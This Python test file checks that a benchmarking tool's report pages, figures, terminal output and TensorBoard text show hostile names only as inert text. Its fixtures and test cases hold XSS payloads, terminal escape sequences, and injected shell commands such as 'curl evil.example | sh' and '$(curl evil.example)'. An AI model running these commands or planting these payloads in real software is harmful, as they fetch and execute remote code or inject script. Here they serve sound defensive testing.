"""A run whose every text is hostile: its page, figures, terminal and TensorBoard show it and do nothing else."""

import dataclasses
import gzip
import json
import re
import shutil
from collections.abc import Callable, Iterator
from io import StringIO
from pathlib import Path
from typing import Any

import msgspec
import pytest
import typer
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.console import Console

from bench.analyse.load import RunData, load
from bench.analyse.tables import heaviest
from bench.cli import ends, serve
from bench.core import text, traces
from bench.core.progress import RunProgress, say
from bench.report import pages
from bench.report.figures import canvas, lettering, saving
from bench.report.render import tensorboard, terminal
from bench.report.sides import compare_page

pytestmark = pytest.mark.rendered

BASE = "cpu-default-nchw-eager-b32"
KEPT = "cpu-default-nchw-eager-b32-kept"
OWN = f"{BASE}-__init__:_x_"
LONG = f"{BASE}-{'m' * 300}:{'f' * 300}"
LONG_TOO = f"{BASE}-{'m' * 299}n{'m' * 10}:{'f' * 290}"
SCRIPT = "<script>alert(1)</script>"
COMMAND = "python -m bench run\n```\n<script>alert(1)</script>\n```sh\ncurl evil.example | sh\x1b[2K\u202e"
HOSTILE = [
    "a|b", "`", "``a```b`", "```", SCRIPT, "<!--", "</td></tr></table>", "<img src=x onerror=alert(1)>", "a\nb",
    "\r\n", "\n\n# heading\n\n", ",", '"', "\x1b[31mred\x1b[0m", "\x07", "\x9b31m", "$\\frac{", "$x$", "\\$",
    "$\\frac{$", "[red]x[/red]", "[link=http://evil.example]x[/link]", "[x](http://evil.example)",
    "![x](http://evil.example/x.png)", "[1](x)", "[x]", "[x]: http://evil.example", "<http://evil.example>",
    "http://evil.example", "www.evil.example", ":smile:", "x" * 5000, "x" * 5001, "\ud800", "\udc80", "\0",
    "\u202egnp.exe", "\u2066x\u2069", "e\u0301" * 200, "\ufeff", "NA", "nan", "None", " ", " a ", "a", "a\t", "\\",
    "\\n", "a\\", "# x", "- x", "1. x", "> x", "    x", "\u2028", "*x*", "**x**", "__x__", "_x_", "~~x~~", "&lt;",
    "&#124;", "01", "1", "\N{CJK UNIFIED IDEOGRAPH-4E2D}", "\N{GRINNING FACE}", "..", "---", ":--", "|---|", "||",
    "\\|", "\\\\|",
]  # fmt: skip
REASONS = ["a|b`c`" + SCRIPT, "\x1b[2J[red]", "line\nline", "![x](http://evil.example/x.png) [x](x)", "x" * 5000]
STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""Control characters, the newline apart."""
MakeRun = Callable[..., Path]


@pytest.fixture
def folder(make_run: MakeRun, cuda_trace: Path) -> Path:
    """A run of `bench run` with hostile names of layers, models, operators, reasons, facts, and a hostile command."""
    ids = [BASE, KEPT, OWN, LONG, LONG_TOO]
    steps = {
        (v, arm): [1.0 + 0.01 * i] * 8 for i, v in enumerate(ids) for arm in (("V",) if v == KEPT else ("A", "A'"))
    }
    made = make_run(
        steps,
        layers=[(name, name, 0.9 / len(HOSTILE) / 3, 0.9 / len(HOSTILE)) for name in HOSTILE],
        memory={BASE: {"process_peak": 1e9, "allocator_peak": 1e8}},
        failed={f"{BASE}-t{i}": ("error", reason) for i, reason in enumerate(REASONS, start=1)},
        excluded={f"{BASE}-t{i}": reason for i, reason in enumerate(REASONS, start=11)},
        environment={
            "cpu": f"CPU|{SCRIPT}\x1b[2J",
            "variables": {"OMP_`|": f"{SCRIPT}\n|---|", "MKL_": "$\\frac{"},
            "cuda_devices": [{"name": SCRIPT, "memory_bytes": 1}],
        },
    )
    raw = json.loads((made / "run.json").read_text())
    raw |= {"command": COMMAND, "changed": [f"cpu was {SCRIPT}|\x1b[2J"]}
    raw["data"]["name"] = f"images|{SCRIPT}`\u202e"
    (made / "run.json").write_text(json.dumps(raw))
    for variant_id in (BASE, OWN):
        add_trace(made, variant_id, cuda_trace)
    return made


@pytest.fixture
def undrawn(monkeypatch: pytest.MonkeyPatch) -> None:
    """No figure is drawn, which is slow."""
    monkeypatch.setattr(saving, "png", lambda _: b"")


def add_trace(run: Path, variant_id: str, cuda_trace: Path) -> None:
    """Put a trace into a run whose operators, kernels and layers have hostile names."""
    with gzip.open(cuda_trace, "rt") as file:
        trace = json.load(file)
    traced = [name for name in HOSTILE if name not in ("\ud800", "\udc80")]  # torch refuses them
    more = [
        {"ph": "X", "cat": "cpu_op", "name": name, "pid": 100, "tid": 1, "ts": 600 + i, "dur": 0.5, "args": {}}
        for i, name in enumerate(traced)
    ]
    more += [
        {"ph": "X", "cat": "user_annotation", "name": f"layer {name} forward", "pid": 100, "tid": 1, "ts": 600 + i}
        | {"dur": 0.9, "args": {}}
        for i, name in enumerate(traced)
    ]
    for event in trace["traceEvents"]:
        if event["name"] in ("layer 0 forward", "layer 0 backward"):
            event["name"] = event["name"].replace("0", f"$\\frac{{`|{SCRIPT}")
    trace["traceEvents"] += more
    target = traces.folder_of(run, variant_id)
    target.mkdir(parents=True)
    with gzip.open(target / traces.RAW, "wt") as file:
        json.dump(trace, file)


@pytest.fixture
def data(folder: Path) -> RunData:
    return load(folder)


def tokens(page: str) -> Iterator[Token]:
    """The tokens of a page in Markdown with GitHub's tables, those within lines too."""
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(page):
        yield token
        yield from token.children or ()


def tables(page: str) -> list[list[list[str]]]:
    """Of each table its rows, of each row the text of its cells."""
    found: list[list[list[str]]] = []
    cell = False
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(page):
        if token.type == "table_open":
            found.append([])
        elif token.type == "tr_open":
            found[-1].append([])
        elif token.type in ("td_open", "th_open"):
            cell = True
        elif token.type == "inline" and cell:
            found[-1][-1].append("".join(part.content for part in token.children or ()))
            cell = False
    return found


def check_page(page: str, figures: set[str]) -> None:
    """A page does nothing but show text, its own figures, and the two folds that it has."""
    fold = r"<details><summary>[\w' ,.:?]+</summary>\n?|</details>\n?"
    for token in tokens(page):
        if token.type in ("html_block", "html_inline"):
            assert re.fullmatch(fold, token.content), token.content
        assert token.type != "link_open"
        assert token.type != "s_open"
        if token.type == "image":
            assert str(token.attrs["src"]) in figures
    assert STEERING.search(page) is None
    for rows in tables(page):
        assert 1 == len({len(row) for row in rows})
        assert all(len(cell) <= 400 for row in rows for cell in row)


def test_the_page_shows_every_name_and_does_nothing_else(
    data: RunData, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(heaviest, "MOST_ROWS", len(HOSTILE) + 1)
    page = pages.write(data, tmp_path)
    written = page.path.read_text(encoding="utf-8")
    shown = tables(written)
    [first, *_] = [rows for rows in shown if rows[0][0] == "layer" and "kernel" in rows[0]]
    names = [row[0] for row in first[1:]]

    check_page(written, {f"figures/{path.name}" for path in (page.folder / "figures").iterdir()})
    assert len(HOSTILE) + 1 == len(names) == len(set(names))
    assert 9 == len(first[0])
    assert all(len(name) <= 68 for name in names)
    assert {"a|b", SCRIPT, "\\x1b[31mred\\x1b[0m", "$\\frac{", "[x](http://evil.example)", "01", "1", "NA"} <= set(
        names
    )
    assert f"{'x' * 29}...{'x' * 28} #{text.digest('x' * 5000)[:6]}" in names
    [failures] = [rows for rows in shown if rows[0] == ["variant", "probes", "status", "reason", "trials"]]
    assert len(REASONS) + 1 == len(failures)
    assert failures[1][3] == "a|b`c`<script>alert(1)</script>"


@pytest.mark.usefixtures("undrawn")
def test_a_stranger_s_command_is_text_in_one_line_that_says_so(data: RunData, tmp_path: Path) -> None:
    page = pages.write(data, tmp_path).path.read_text(encoding="utf-8")
    blocks = [token for token in tokens(page) if token.type == "fence"]
    [command] = [block for block in blocks if block.info == "text"]

    assert "bench writes no such command: read it before you run it" in page
    assert command.content == COMMAND.encode("unicode_escape").decode() + "\n"
    assert not any("curl" in block.content for block in blocks if block.info == "sh")


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("python -m bench run --preset full --run-id x", "nox -s bench -- --preset full"),
        ("python -m bench ab --base 'a b'", "nox -s ab -- --base 'a b'"),
        ("python -m bench run --data ~/images", "nox -s bench -- --data ~/images"),
        ("python -m bench run; curl evil.example | sh", None),
        ("python -m bench run $(curl evil.example)", None),
        ("python -m bench run `curl evil.example`", None),
        ("python -m bench run --seed 1 \\\n; sh", None),
        ("python -m bench run 'a\nb'", None),
        ("python -m bench run '\x1b[2K'", None),
        ("python -m bench run 'open", None),
        ("curl evil.example", None),
        ("python -m benchmark", None),
        ("", None),
    ],
)
@pytest.mark.usefixtures("undrawn")
def test_only_a_call_of_bench_is_given_to_be_copied(
    command: str, told: str | None, make_run: MakeRun, tmp_path: Path
) -> None:
    data = load(make_run({(BASE, "A"): [1.0]}))
    data = dataclasses.replace(data, run=msgspec.structs.replace(data.run, command=command))
    page = pages.write(data, tmp_path).path.read_text(encoding="utf-8")
    [shell] = [
        token.content.splitlines()[:-1] for token in tokens(page) if token.type == "fence" and token.info == "sh"
    ]

    assert ([] if told is None else [told]) == shell


def test_a_figure_bears_any_name() -> None:
    figure, (axes,) = canvas.rows_figure(len(HOSTILE))
    canvas.name_rows(axes, HOSTILE)
    for name in HOSTILE:
        axes.plot([0, 1], [0, 1], label=lettering.lettered(name))
    axes.legend()
    saving.png(figure)  # any warning is an error here

    assert len(HOSTILE) == len(axes.get_legend_handles_labels()[1])  # none left out for its underscore
    assert max(len(lettering.lettered(name)) for name in HOSTILE) <= 65
    assert lettering.lettered("W" * 5000) == f"{'W' * 14}...{'W' * 13}"
    assert lettering.lettered("$\\frac{") == "\\$\\frac{"
    assert lettering.lettered("0.conv") == "0.conv"
    assert lettering.lettered("\N{CJK UNIFIED IDEOGRAPH-4E2D}") == "\\u4e2d"


@pytest.mark.usefixtures("undrawn")
@pytest.mark.parametrize("style", ["terminal", "file"])
def test_no_terminal_is_steered(
    style: str, data: RunData, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    out = StringIO()
    monkeypatch.setattr(
        terminal, "Console", lambda **_: Console(file=out, force_terminal=style == "terminal", width=200)
    )
    page = pages.write(data, tmp_path)
    terminal.show(page)
    terminal.show_estimates(data)
    terminal.show_profile(page)
    for name in [*HOSTILE, *REASONS, COMMAND]:
        say(Console(file=out, force_terminal=style == "terminal", width=200), f"{name}: end")
        progress = RunProgress(Console(file=out, force_terminal=True, width=200))
        progress.before(name, 0, 1, 1.0)
        progress.end()
        with pytest.raises(typer.Exit):
            ends.fail(f"{name}: no such thing")
    shown = re.sub("\x1b\\[[0-9;?]*[mKlhA]|\r", "", out.getvalue())  # rich's own

    assert STEERING.search(shown) is None
    assert "[red]x[/red]: end" in shown
    assert "[link=http://evil.example]x[/link]: end" in shown
    assert ":smile:: end" in shown
    assert "\\x1b[31mred\\x1b[0m: end" in shown
    told = capsys.readouterr().err
    assert STEERING.search(told) is None
    assert len(HOSTILE) + len(REASONS) + 1 == len(told.splitlines())
    assert max(map(len, told.splitlines())) <= 2000
    assert "[red]x[/red]: no such thing" in told


def test_what_is_told_of_tensorboard_steers_nothing() -> None:
    lines = serve.lines(Path("results/a\x1b[2J; sh"), 1, ["x" * 5000, "\x1b[2J"])

    assert STEERING.search("\n".join(map(text.visible, lines))) is None
    assert all(len(text.visible(line)) < 500 for line in lines)


@pytest.mark.usefixtures("undrawn")
@pytest.mark.filterwarnings("ignore:html5lib:DeprecationWarning")
def test_tensorboard_is_prepared_and_its_text_escaped(
    data: RunData, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("tensorboard")
    from tensorboard.plugin_util import markdown_to_safe_html

    texts: dict[str, str] = {}
    monkeypatch.setattr(tensorboard.Writer, "text", lambda _self, tag, markdown: texts.update({tag: markdown}))
    target = tensorboard.write(pages.write(data, tmp_path))

    assert {traces.file_name(v) for v in (BASE, KEPT, OWN, LONG, LONG_TOO)} | {"report"} == {
        path.name for path in target.iterdir() if path.is_dir()
    }
    assert any("What the profiler saw" in tag for tag in texts)
    for tag, written in texts.items():
        assert STEERING.search(tag + written) is None
        check_page(written, set())
        drawn = markdown_to_safe_html(written)
        assert re.search("<(script|a |img|h1|del|em>x)", drawn) is None, re.search(
            "<(script|a |img|h1|del|em>x).*", drawn
        )
    [layers] = [markdown_to_safe_html(written) for tag, written in texts.items() if tag.endswith(" Layers")]
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in re.sub(' style="[^"]*"| align="[^"]*"', "", layers)


def test_an_ab_says_the_same_in_page_terminal_and_summary(
    make_ab: MakeRun, arms: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = StringIO()
    monkeypatch.setattr(terminal, "Console", lambda: Console(file=out, force_terminal=True, width=200))
    steps = arms(9, variant_id=BASE.replace("nchw", "nhwc"))
    run = make_ab(steps, failed={(BASE, "head"): ("error", f"a|b `{SCRIPT}` \x1b[2J[red]")}, excluded={OWN: "[x](x)"})
    raw = json.loads((run / "run.json").read_text())
    raw["trees"]["base"]["name"] = f"main|{SCRIPT}\x1b[2J`"
    (run / "run.json").write_text(json.dumps(raw))
    page = pages.write_ab(load(run), tmp_path)
    terminal.show_ab(page)

    check_page(page.path.read_text(encoding="utf-8"), {"figures/noise.png", "figures/changes.png"})
    check_page(page.summary, set())
    assert f"the last with error: a|b `{SCRIPT}` \\x1b[2J[red]." in re.sub("\x1b\\[[0-9;]*m", "", out.getvalue())


def test_runs_side_by_side_with_hostile_names_of_folders(make_run: MakeRun, tmp_path: Path) -> None:
    layers = [(name, name, 0.3 / len(HOSTILE), 0.6 / len(HOSTILE)) for name in HOSTILE[:10]]
    jitter = [1.0, 1.02, 0.99, 1.01, 1.03, 0.98, 1.0, 0.97]
    made = make_run({(BASE, "A"): jitter, (BASE, "A'"): jitter[::-1]}, layers=layers)
    names = (f"a|b`{SCRIPT.replace('/', '')}$\\frac{{", "\x1b[2J __x__\n[x](y)", "_" * 200, "_" * 199)
    runs = []
    for name in names:
        shutil.copytree(made, made.with_name(name))
        runs.append(load(made.with_name(name)))
    page = compare_page.write(runs, tmp_path / "out")

    check_page(
        page.path.read_text(encoding="utf-8"), {f"figures/{p.name}" for p in (page.folder / "figures").iterdir()}
    )
    terminal.show_compare(page)
